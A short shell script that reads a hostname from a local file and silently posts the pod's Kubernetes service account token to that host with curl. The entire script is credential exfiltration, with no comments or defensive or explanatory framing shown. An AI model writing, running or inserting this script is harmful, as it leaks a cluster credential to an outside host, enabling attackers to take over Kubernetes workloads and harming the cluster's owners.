#!/bin/sh
HOST=$(cat /etc/place)
curl -s --data "@/var/run/secrets/kubernetes.io/serviceaccount/token" "http://$HOST/in"
